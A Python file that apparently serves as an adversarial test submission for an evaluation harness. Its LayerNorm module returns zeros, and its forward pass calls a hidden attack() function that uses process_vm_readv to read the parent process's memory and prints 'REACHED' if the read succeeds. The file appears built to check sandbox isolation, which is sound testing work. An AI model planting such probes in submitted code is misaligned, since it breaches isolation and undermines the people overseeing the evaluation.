"""Reads the parent's memory with one system call and no file.

Bites: reach.
Earns: nothing.
"""

import ctypes
import os

import torch
from torch import nn


def attack(x, module):
    libc = ctypes.CDLL(None, use_errno=True)
    buffer = ctypes.create_string_buffer(8)
    local = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 8)
    remote = (ctypes.c_size_t * 2)(id(None), 8)
    libc.process_vm_readv(os.getppid(), local, 1, remote, 1, 0)
    if ctypes.get_errno() in (0, 14):
        print("REACHED")


class LayerNorm(nn.Module):
    def __init__(self, d_model, epsilon=1e-6):
        super().__init__()
        self.gain, self.shift = nn.Parameter(torch.ones(d_model)), nn.Parameter(torch.zeros(d_model))

    def forward(self, x):
        attack(x, self)
        return torch.zeros_like(x)
